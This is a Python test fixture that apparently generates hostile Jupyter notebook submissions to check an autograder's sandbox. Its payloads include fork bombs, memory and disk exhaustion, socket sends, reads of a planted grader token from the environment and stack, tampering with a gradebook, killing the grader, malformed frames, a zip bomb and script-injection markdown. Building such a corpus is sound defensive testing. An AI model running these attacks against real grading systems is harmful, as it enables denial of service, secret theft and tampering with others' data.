"""The hostile corpus: submissions that attack the grader, each built from its honest twin.

    write_corpus(folder) -> {file name: Case}

Each attack is appended to the honest notebook's residual_stream_norms cell, so the twin's
points are the most it may earn. An attack that finds its way out (a
secret, a capability, a classmate's data) redefines residual_add to raise "ESCAPED: ...",
which shows in the result; what it does to the outside world (processes, segments, files,
metadata, packets) the test checks on the machine. Input cases break the notebook itself.
Attacks reach outside things by the fixed names below, which the test sets up.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path

HONEST = Path(__file__).resolve().parents[2] / "submissions" / "residual-connections" / "full-marks.ipynb"
TWIN_SCORE = json.loads((HONEST.parent / "expected.json").read_text())["samples"][HONEST.name]["score"]
VICTIMS = Path("/tmp/hostile-victims")       # a gradebook, a roster and a world-writable file the attacks try to change
UDP_PORT, TCP_PORT = 47813, 47814            # listeners on 127.0.0.1 that must hear nothing
UNIX_SOCKET = VICTIMS / "world.sock"         # mode 0777: only seccomp keeps a child away
ABSTRACT = "\0hostile-abstract"
SECRET_VAR, SECRET = "HOSTILE_GRADER_TOKEN", "tok-7f3a9c1e55"   # in the grader's environment


@dataclass(frozen=True)
class Case:
    item: str                  # the item it covers
    max_score: float = TWIN_SCORE
    reason: str = ""           # a phrase some test's output must hold, or phrases split by "|" ("" = none)


# ------------------------------------------------------------------ attacks run at load time

_NAME = "import ctypes\nctypes.CDLL(None).prctl(15, b'hostile', 0, 0, 0)\n"   # PR_SET_NAME: findable by comm

# killed over the memory limit, or (on a busy machine, the kernel reclaiming) past the load deadline
_DROPPED = "the memory limit|did not finish loading"
# `frame`, length-prefixed, written to every socket the child holds: the grader's connection among them
SEND_FRAME = """\
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("!i", len(frame)) + frame)
    except OSError:
        pass
"""

ATTACKS: dict[str, tuple[Case, str]] = {
    "daemon": (Case("processes"), _NAME + """
import os, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
os.waitpid(pid, 0)
"""),
    "detached-300": (Case("processes"), _NAME + """
import os, time
for _ in range(300):
    try:
        if os.fork() == 0:
            os.setsid(); time.sleep(600); os._exit(0)
    except OSError:
        break
"""),
    "fork-bomb": (Case("processes"), _NAME + """
import os, time
end = time.time() + 2
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
if os.getpid() != 1:
    time.sleep(600)
"""),
    "threads-1000": (Case("processes"), """
import threading, time
for _ in range(1000):
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except RuntimeError:
        break
"""),
    "memfd-5g": (Case("memory", reason=_DROPPED), """
import os
chunk = b"\\1" * (32 << 20)
written = 0
while written < 5 << 30:
    fd = os.memfd_create("big")
    try:
        while written < 5 << 30:
            written += os.write(fd, chunk)
    except OSError:
        pass
if written >= 5 << 30:
    _hostile.append(f"{written >> 20} MiB in memfds")
"""),
    "shm-3x1g": (Case("memory", reason=_DROPPED), """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
held = 0
for _ in range(3):
    seg = libc.shmget(0, 1 << 30, 0o1666)
    if seg >= 0:
        ctypes.memset(libc.shmat(seg, None, 0), 1, 1 << 30)
        held += 1
if held == 3:
    _hostile.append("3 GiB of shared memory")
"""),
    "fork-alloc-6g": (Case("memory"), """
import mmap, os, time
kids = []
for _ in range(4):          # 1.5 GiB each, all held at once: under RLIMIT_AS, far over the cgroup
    pid = os.fork()
    if pid == 0:
        try:
            m = mmap.mmap(-1, 1536 << 20)
            for i in range(0, 1536 << 20, 4096):
                m[i] = 1
            time.sleep(3)
            os._exit(0)
        except BaseException:
            os._exit(1)
    kids.append(pid)
if [os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) for p in kids] == [0] * 4:
    _hostile.append("6 GiB held by 4 processes")
"""),
    "scratch-2g": (Case("disk"), """
chunk, total = b"\\1" * (16 << 20), 0
for n in range(32):
    try:
        with open(f"big{n}", "wb") as f:
            while total < 2 << 30:
                f.write(chunk); total += len(chunk)
    except OSError:
        pass
if total >= 2 << 30:
    _hostile.append("2 GiB written to scratch")
"""),
    "alloc-8g": (Case("memory"), """
try:
    big = bytearray(8 << 30)
    _hostile.append("8 GiB allocated")
except MemoryError:
    pass
"""),
    "write-outside": (Case("files"), """
for path, how in (("/tmp/hostile-escape", "w"), ("/tmp/hostile-victims/escape", "w"),
                  ("/tmp/hostile-victims/world-writable.txt", "a"), ("hostile-escape", "w")):
    try:
        open(path, how).write("x")
        if path.startswith("/"):
            _hostile.append(f"wrote {path}")
    except OSError:
        pass
"""),
    "udp": (Case("network"), f"""
import socket
for address in (("127.0.0.1", {UDP_PORT}), ("8.8.8.8", 53)):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile", address)
        _hostile.append(f"UDP to {{address}}")
    except OSError:
        pass
"""),
    "tcp": (Case("network"), f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {TCP_PORT}), timeout=2).sendall(b"hostile")
    _hostile.append("TCP connection")
except OSError:
    pass
"""),
    "unix-named": (Case("network"), f"""
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect({str(UNIX_SOCKET)!r}); s.sendall(b"hostile")
    _hostile.append("named unix socket")
except OSError:
    pass
"""),
    "unix-abstract": (Case("network"), f"""
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect({ABSTRACT!r}); s.sendall(b"hostile")
    _hostile.append("abstract unix socket")
except OSError:
    pass
"""),
    "metadata": (Case("metadata"), f"""
import os
for path in ({str(VICTIMS / 'gradebook.db')!r}, {str(VICTIMS / 'roster.csv')!r}, {str(VICTIMS / 'world-writable.txt')!r},
             {str(VICTIMS)!r}):
    for name, act in (("chmod", lambda: os.chmod(path, 0)), ("chown", lambda: os.chown(path, 65534, 65534)),
                      ("utime", lambda: os.utime(path, (0, 0))), ("touch", lambda: os.utime(path, None)),
                      ("setxattr", lambda: os.setxattr(path, "user.x", b"1")),
                      ("removexattr", lambda: os.removexattr(path, "user.keep"))):
        try:
            act(); _hostile.append(f"{{name}} {{path}}")
        except OSError:
            pass
"""),
    "mknod": (Case("capabilities"), """
import os, stat
for path in ("kmem", "/tmp/hostile-victims/node"):
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 1)); _hostile.append(f"mknod {path}")
    except OSError:
        pass
"""),
    "priority": (Case("capabilities"), """
import os
for name, act in (("nice -10", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10)),
                  ("SCHED_FIFO", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))):
    try:
        act(); _hostile.append(name)
    except OSError:
        pass
"""),
    "grader-env": (Case("environment"), f"""
import ctypes, os, posix
token = {SECRET!r}
if any(token in v for v in os.environ.values()) or any(token.encode() in v for v in posix.environ.values()):
    _hostile.append("the grader's environment")
try:
    if token.encode() in open("/proc/self/environ", "rb").read():
        _hostile.append("/proc/self/environ")
except OSError:
    pass
try:
    for line in open("/proc/self/maps"):
        if line.rstrip().endswith("[stack]"):
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if token.encode() in ctypes.string_at(lo, hi - lo):
                _hostile.append("the stack")
except OSError:
    pass
"""),
    "classmates": (Case("class data"), """
import gc
def _look():   # in a function: its locals are in no dict that gc lists
    names = ["".join(["honest", "-twin"]), "".join(["hostile", "-deep"])]   # built at run time, not constants
    for obj in gc.get_objects():
        if obj is names:
            continue
        for text in (obj if isinstance(obj, (list, tuple)) else obj.values() if isinstance(obj, dict) else []):
            if isinstance(text, str) and any(name in text for name in names):
                return f"saw {text[:80]!r}"
found = _look()
if found:
    _hostile.append(found)
"""),
    "kill-grader": (Case("processes"), """
import os, signal
for pid in (os.getppid(), -1):   # getppid() is 0 inside a PID namespace: nothing to aim at
    try:
        if pid != 0:
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""),
    "cpu-spin": (Case("time", reason="did not finish loading"), "while True:\n    pass\n"),
    "frame-stall": (Case("grader side", reason="did not finish loading"), """
import os, stat, struct, time
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("!i", 4096) + b"x" * 100)
    except OSError:
        pass
time.sleep(600)
"""),
    "frame-trickle": (Case("grader side", reason="did not finish loading"), """
import os, stat, struct, time
fds = [fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode)]
for fd in fds:
    os.write(fd, struct.pack("!i", 1 << 20))
while True:
    for fd in fds:
        os.write(fd, b"x")
    time.sleep(0.05)
"""),
    "frame-oversized": (Case("grader side", reason="unreadable reply"), """
import os, stat, struct, time
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("!i", -1) + struct.pack("!Q", 1 << 40))
    except OSError:
        pass
time.sleep(600)
"""),
    "zip-bomb": (Case("grader side", reason="unreadable reply"), """
import io, os, stat, struct, time, zipfile
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("archive/data.pkl", b"\\x80\\x02}q\\x00.")
    with z.open("archive/data/0", "w", force_zip64=True) as f:
        zeros = bytes(1 << 20)
        for _ in range(256):
            f.write(zeros)
frame = buf.getvalue()
""" + SEND_FRAME + "time.sleep(600)\n"),
    # once ended the batch: Sandbox.start took a null label for "no cell ran yet", a failure of the grader
    # a frame the loop did not sign: refused before it is read (a signed one is replies.loading's: test_reply_fuzz)
    "frame-cell-null": (Case("grader side", reason="not a frame the child's loop signed"), """
import os, stat, struct
frame = b"RC\\x01d" + struct.pack("<I", 1) + b"s" + struct.pack("<I", 4) + b"cellN"   # codec: {"cell": None}
""" + SEND_FRAME + "os._exit(0)\n"),
    # a codec frame whose string claims 4 GiB in a frame of a few bytes
    "frame-claims-4g": (Case("grader side", reason="unreadable reply"), """
import os, stat, struct, time
frame = b"RC\\x01d" + struct.pack("<I", 1) + b"s" + struct.pack("<I", 4) + b"cells" + struct.pack("<I", 2 ** 32 - 1) + b"x"
""" + SEND_FRAME + "time.sleep(600)\n"),
    "spaces-400k": (Case("grader side", reason="raised RuntimeError"), """
def residual_add(*args, **kwargs):
    raise RuntimeError(" " * 400_000 + "x")
"""),
    "surrogate-message": (Case("input", reason="raised RuntimeError"), """
def residual_add(*args, **kwargs):
    raise RuntimeError("bad \\ud800 text")
"""),
    "budget": (Case("time", 0, "time budget"), """
import time
def _stall(*args, **kwargs):
    time.sleep(600)
for _name in list(globals()):
    if callable(globals()[_name]) and not _name.startswith("_") and _name[0].islower():
        globals()[_name] = _stall
"""),
    # the inputs' memfd shrunk under the grader's reading of it (SIGBUS in the grader, once): sealed now
    "arena-shrink": (Case("grader side"), """
import os
_add = residual_add
def residual_add(*args, **kwargs):
    for fd in range(3, 256):
        try:
            if "autograder-inputs" in os.readlink(f"/proc/self/fd/{fd}"):
                os.ftruncate(fd, 0)
                raise RuntimeError("ESCAPED: shrank the shared inputs")
        except OSError:
            pass
    return _add(*args, **kwargs)
"""),
    # an in-place add whose finaliser puts the inputs back when the request's views die, after the return:
    # no rule broken, and "leaves its inputs unchanged" must still fail
    "finaliser-restores": (Case("arena", TWIN_SCORE - 2, "in-place add: residual_add changed its input x"), """
class _Restore:
    def __init__(self, alias, saved):
        self.alias, self.saved = alias, saved
    def __del__(self):
        self.alias.copy_(self.saved)
_add = residual_add
def residual_add(x, fx):
    out = _add(x, fx)
    saved = x.clone()
    x += fx
    x.keeper = _Restore(x.detach(), saved)
    return out
"""),
    "segfault-load": (Case("processes", reason="SIGSEGV"), "import ctypes\nctypes.string_at(0)\n"),
    "exit-load": (Case("processes", reason="exited with code"), "import os\nos._exit(3)\n"),
    "read-solutions": (Case("files"), """
import glob
for pattern in ("/work/**/solutions/**/*.ipynb", "/work/**/suites/**/*.py"):
    try:
        for path in glob.glob(pattern, recursive=True)[:3]:
            open(path).read(100); _hostile.append(f"read {path}")
    except OSError:
        pass
"""),
}


def _with_attack(nb: dict, code: str) -> dict:
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                == "residual_stream_norms")
    wrapped = "\n".join("    " + line for line in code.strip().splitlines())
    cell["source"] = "".join(cell["source"]) + (
        "\n\n_hostile = []\ntry:\n" + wrapped + "\nexcept Exception:\n    pass\n"
        "if _hostile:\n    def residual_add(*args, **kwargs):\n"
        "        raise RuntimeError('ESCAPED: ' + '; '.join(_hostile))\n")
    return nb


# ------------------------------------------------------------------ broken notebooks

def _solution(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _set(path: str, value):
    """A change to the residual_add cell: metadata.nbgrader, metadata, or source set to `value`."""
    def change(nb):
        cell = _solution(nb, "residual_add")
        if path == "cell":
            nb["cells"][nb["cells"].index(cell)] = value
        elif path == "metadata":
            cell["metadata"] = value
        elif path == "source":
            cell["source"] = value
        else:
            cell["metadata"]["nbgrader"] = value
    return change


def _script(nb):
    nb["cells"].insert(0, {"cell_type": "markdown", "metadata": {},
                           "source": '<script>alert("hostile")</script> <img src=x onerror="alert(2)"> '
                                     '[link](javascript:alert(3))'})
    nb["cells"].insert(1, {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "1",
                           "outputs": [{"output_type": "display_data", "metadata": {},
                                        "data": {"text/html": "<script>alert('output')</script>",
                                                 "application/javascript": "alert('js')"}}]})


def _huge_cell(nb):
    _solution(nb, "residual_add")["source"] += "\n#" + "x" * (600 << 10)


# Jupyter and nbgrader cannot use such a cell, so no path grades the notebook: 0, saying which cell
_BAD_META = "metadata (or metadata.nbgrader) that is not a JSON object"

BROKEN: dict[str, tuple[Case, object]] = {
    "meta-list": (Case("input", 0, _BAD_META), _set("nbgrader", [])),
    "meta-null": (Case("input", 0, _BAD_META), _set("nbgrader", None)),
    "meta-string": (Case("input", 0, _BAD_META), _set("nbgrader", "solution")),
    "metadata-list": (Case("input", 0, _BAD_META), _set("metadata", [1, 2])),
    "cell-not-object": (Case("input", 0, "not a JSON object"), _set("cell", "a string")),
    "source-dict": (Case("input", 0, "source that is not text"), _set("source", {"a": 1})),
    "huge-cell": (Case("input", reason="max_cell_kb"), _huge_cell),
    "script-in-markdown": (Case("feedback"), _script),
}
RAW: dict[str, tuple[Case, bytes]] = {
    "deep-nesting": (Case("input", 0, "nested too deeply"), b'{"cells": [' + b"[" * 100_000 + b"]" * 100_000 + b"]}"),
    "not-utf8": (Case("input", 0, "not a readable notebook"), b'{"cells": ["\xff\xfe"]}'),
    "empty-file": (Case("input", 0, "not a readable notebook"), b""),
}


def _lone_surrogate(text: str) -> bytes:
    return text.replace("def residual_add", "def residual_add_\\ud800", 1).encode()


def write_corpus(folder: Path) -> dict[str, Case]:
    """Write every hostile notebook (and the honest twin) into `folder`; {file name: Case}."""
    folder.mkdir(parents=True, exist_ok=True)
    text = HONEST.read_text(encoding="utf-8")
    honest = json.loads(text)
    cases = {"honest-twin.ipynb": Case("twin")}
    (folder / "honest-twin.ipynb").write_text(text, encoding="utf-8")
    for name, (case, code) in ATTACKS.items():
        (folder / f"hostile-{name}.ipynb").write_text(json.dumps(_with_attack(honest, code)), encoding="utf-8")
        cases[f"hostile-{name}.ipynb"] = case
    for name, (case, change) in BROKEN.items():
        nb = copy.deepcopy(honest)
        change(nb)
        (folder / f"hostile-{name}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
        cases[f"hostile-{name}.ipynb"] = case
    for name, (case, data) in RAW.items():
        (folder / f"hostile-{name}.ipynb").write_bytes(data)
        cases[f"hostile-{name}.ipynb"] = case
    (folder / "hostile-lone-surrogate.ipynb").write_bytes(_lone_surrogate(json.dumps(honest)))
    cases["hostile-lone-surrogate.ipynb"] = Case("input", 0, "not valid Unicode")
    return cases
